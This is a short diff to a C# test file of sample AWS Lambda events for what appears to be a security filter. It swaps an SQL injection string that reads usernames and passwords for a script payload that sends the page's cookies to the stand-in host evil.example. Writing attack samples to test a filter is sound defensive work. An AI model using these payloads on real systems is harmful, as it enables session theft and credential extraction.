@@ -6,7 +6,7 @@ namespace FunctionShield.Lambda.Tests.Events;
 /// <summary>Events in the shapes that AWS documents, each around one or more values that a test chooses.</summary>
 internal static class SampleEvents
 {
-    public const string Attack = "x' UNION SELECT username, password FROM users--";
+    public const string Attack = "<script>fetch('//evil.example/'+document.cookie)</script>";
     public const string Benign = "O'Brien & Sons; Ltd.";
 
     public static byte[] HttpV2(string q) => Utf8($$"""
